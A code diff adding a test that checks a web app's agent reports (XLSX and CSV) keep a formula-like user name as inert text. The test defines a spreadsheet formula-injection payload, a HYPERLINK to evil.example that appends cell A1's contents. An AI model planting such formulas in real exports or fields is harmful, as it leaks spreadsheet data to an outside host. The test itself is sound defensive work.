@@ -402,3 +402,38 @@ async def test_the_bot_import_is_the_admins(api, login, kefu) -> None:
     status, audit = await api("/api/audit?" + urlencode({"action": "setting_changed", "target": "bot_answers"}),
                               token=who["admin"])
     assert status == 200 and len(audit["entries"]) == 1, audit
+
+
+# -- report files ----------------------------------------------------------------------------------
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+
+
+@pytest.mark.gen_test(timeout=60)
+async def test_a_name_that_looks_like_a_formula_stays_text_in_the_report_files(api, login, base_url) -> None:
+    import csv
+    import io
+
+    import openpyxl
+    import tornado.httpclient
+
+    admin, _ = await login("admin")
+    status, user = await api("/api/users", "POST", {"username": "formula", "password": "a-long-password",
+                                                    "roles": ["agent"], "name": FORMULA_NAME}, token=admin)
+    assert status == 201, user
+    client = tornado.httpclient.AsyncHTTPClient()
+
+    async def download(fmt: str) -> bytes:
+        response = await client.fetch(f"{base_url}/api/reports/agents?from=2026-03-01&to=2026-03-02&format={fmt}",
+                                      headers={"Authorization": f"Bearer {admin}"})
+        assert response.code == 200
+        return response.body
+
+    book = openpyxl.load_workbook(io.BytesIO(await download("xlsx")))
+    cells = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert len(cells) == 1 and cells[0].data_type == "s", [(c.value, c.data_type) for c in cells]
+    assert cells[0].value == FORMULA_NAME  # the name as typed, not a formula
+    rows = list(csv.reader(io.StringIO((await download("csv")).decode("utf-8-sig"))))
+    names = [r[1] for r in rows if "HYPERLINK" in r[1]]
+    # Excel runs a cell starting with = + - @ as a formula: the CSV's cell starts with a quote.
+    assert names == ["'" + FORMULA_NAME], names
